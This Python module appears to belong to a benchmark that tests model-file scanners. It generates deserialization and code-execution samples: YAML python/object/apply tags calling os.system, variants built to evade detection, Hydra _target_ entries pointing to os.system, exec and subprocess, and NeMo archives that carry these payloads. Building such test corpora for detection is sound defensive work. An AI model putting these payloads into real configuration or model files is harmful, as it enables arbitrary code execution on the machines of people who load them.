"""Configurations that make a loader import or call: YAML tags, Hydra targets, NeMo archives.

Source: the advisories named beside each technique; the loaders' documentation.
"""

from __future__ import annotations

import io
import json
import tarfile
from typing import Any

from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import stream
from bench.scanner_attacks.techniques import COMMAND, SOURCE, Family

FAMILY = Family("configurations")
_CODE = f"import os\nos.system('{COMMAND}')\n\n\nclass Net:\n    pass\n"

_YAML = {
    "yaml-object-apply": f"a: !!python/object/apply:os.system ['{COMMAND}']\n",
    "yaml-object-new": f"a: !!python/object/new:os.system ['{COMMAND}']\n",
    "yaml-object": "a: !!python/object:subprocess.Popen\n  args: echo\n",
    "yaml-name": "a: !!python/name:os.system ''\n",
    "yaml-module": "a: !!python/module:antigravity ''\n",
    "yaml-tag-directive": (
        f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{COMMAND}']\n"
    ),
    "yaml-tag-handle-redefined": (
        f"%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['{COMMAND}']\n"
    ),
    "yaml-verbatim-tag": (f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['{COMMAND}']\n"),
    "yaml-escaped-tag": f"a: !!python/object/%61pply:os.system ['{COMMAND}']\n",
    "yaml-in-second-document": f"a: 1\n---\nb: !!python/object/apply:os.system ['{COMMAND}']\n",
    "yaml-in-flow-key": f"{{? !!python/object/apply:os.system ['{COMMAND}'] : 1}}\n",
    "yaml-utf16": f"a: !!python/object/apply:os.system ['{COMMAND}']\n".encode("utf-16"),
    "yaml-ruby-object": "--- !ruby/object:Gem::Installer\ni: x\n",
}
for _name, _text in _YAML.items():
    FAMILY.add(
        _name,
        "config.yaml",
        lambda text=_text: text,
        least="review" if "ruby" in _name else "malicious",
    )

_TARGETS = {
    "hydra-target-os": {"model": {"_target_": "os.system", "command": COMMAND}},
    "hydra-target-exec": {"model": {"_target_": "builtins.exec", "_args_": [SOURCE]}},
    "hydra-target-deep": {"a": [{"b": {"_target_": "subprocess.run", "args": "echo"}}]},
    "hydra-target-get-method": {"_target_": "hydra.utils.get_method", "path": "os.system"},
    "hydra-target-torch-hub": {"_target_": "torch.hub.load", "repo_or_dir": "bench/invalid"},
    "hydra-target-import": {"x": {"_target_": "pydoc.locate", "path": "os.system"}},
}
_HYDRA = ("CVE-2025-23304", "CVE-2026-22584")


def _plain_yaml(value: Any, depth: int = 0) -> str:
    if isinstance(value, dict):
        lines = (
            "  " * depth + f"{key}: {_plain_yaml(item, depth + 1)}" for key, item in value.items()
        )
        return ("\n" if depth else "") + "\n".join(lines) + ("" if depth else "\n")
    return json.dumps(value)


for _name, _config in _TARGETS.items():
    FAMILY.add(_name, "config.yaml", lambda config=_config: _plain_yaml(config), *_HYDRA)
FAMILY.add("hydra-target-in-json", "config.json", lambda: json.dumps(_TARGETS["hydra-target-os"]))
FAMILY.add(
    "hydra-unknown-target",
    "config.yaml",
    lambda: _plain_yaml({"m": {"_target_": "my_package.hooks.run"}}),
    least="review",
)


def _nemo(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as writer:
        for name, body in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(body)
            writer.addfile(entry, io.BytesIO(body))
    return buffer.getvalue()


FAMILY.add(
    "nemo-target",
    "model.nemo",
    lambda: _nemo(
        {
            "./model_config.yaml": _plain_yaml(_TARGETS["hydra-target-exec"]).encode(),
            "./model_weights.ckpt": stream({}),
        }
    ),
    "CVE-2025-23304",
)
FAMILY.add(
    "nemo-pickle",
    "model.nemo",
    lambda: _nemo({"./model_config.yaml": b"a: 1\n", "./model_weights.ckpt": stream(SYSTEM)}),
)
